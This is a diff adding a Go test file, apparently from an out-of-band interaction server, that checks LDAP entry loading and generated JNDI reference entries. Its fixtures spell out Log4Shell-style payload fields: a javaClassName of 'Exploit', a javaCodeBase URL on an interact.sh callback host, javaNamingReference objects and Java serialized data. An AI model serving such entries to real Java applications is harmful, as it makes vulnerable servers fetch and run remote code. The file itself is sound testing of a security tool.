@@ -0,0 +1,59 @@
+package server
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+)
+
+func TestNewLDAPEntry(t *testing.T) {
+	dir := t.TempDir()
+
+	yamlPath := filepath.Join(dir, "entry.yaml")
+	require.Nil(t, os.WriteFile(yamlPath, []byte(`dn: "cn=test, {BASE}"
+attributes:
+  - name: javaClassName
+    values: [Exploit]
+  - name: javaCodeBase
+    values: ["http://c59e3crp82ke7bcnedq0cfjqdpeyyyyyy.interact.sh/"]
+`), 0600))
+	entry, err := NewLDAPEntry(yamlPath)
+	require.Nil(t, err)
+	require.Equal(t, "cn=test, {BASE}", entry.DN)
+	require.Len(t, entry.Attributes, 2)
+	require.Equal(t, "javaClassName", entry.Attributes[0].Name)
+	require.Equal(t, []string{"Exploit"}, entry.Attributes[0].Values)
+
+	jsonPath := filepath.Join(dir, "entry.json")
+	require.Nil(t, os.WriteFile(jsonPath, []byte(`{"dn": "cn=test", "attributes": [{"name": "cn", "values": ["test"]}]}`), 0600))
+	entry, err = NewLDAPEntry(jsonPath)
+	require.Nil(t, err)
+	require.Equal(t, []LDAPAttribute{{Name: "cn", Values: []string{"test"}}}, entry.Attributes)
+
+	require.Nil(t, os.WriteFile(jsonPath, []byte(`{"dn": "cn=test", "attributes": [{"name": "cn"}]}`), 0600))
+	_, err = NewLDAPEntry(jsonPath)
+	require.NotNil(t, err)
+}
+
+func TestLDAPReferenceEntry(t *testing.T) {
+	options := &Options{Domains: []string{"interact.sh"}, HttpPort: 8080, LDAPExploitMode: LDAPExploitReference}
+	entry := options.ldapReferenceEntry("c59e3crp82ke7bcnedq0cfjqdpeyyyyyy")
+	attributes := make(map[string][]string)
+	for _, attribute := range entry.Attributes {
+		attributes[attribute.Name] = attribute.Values
+	}
+	require.Equal(t, []string{"http://c59e3crp82ke7bcnedq0cfjqdpeyyyyyy.interact.sh:8080/"}, attributes["javaCodeBase"])
+	require.Equal(t, []string{"javaNamingReference"}, attributes["objectClass"])
+	require.Equal(t, []string{ldapReferenceFactory}, attributes["javaFactory"])
+	require.Empty(t, attributes["javaSerializedData"])
+
+	options.LDAPExploitMode = LDAPExploitSerialized
+	options.HttpPort = 80
+	entry = options.ldapReferenceEntry("c59e3crp82ke7bcnedq0cfjqdpeyyyyyy")
+	serialized := entry.Attributes[len(entry.Attributes)-1]
+	require.Equal(t, "javaSerializedData", serialized.Name)
+	require.Equal(t, string(javaSerializedString("http://c59e3crp82ke7bcnedq0cfjqdpeyyyyyy.interact.sh/")), serialized.Values[0])
+	require.Equal(t, []byte{0xac, 0xed, 0x00, 0x05, 0x74, 0x00, 0x02, 'h', 'i'}, javaSerializedString("hi"))
+}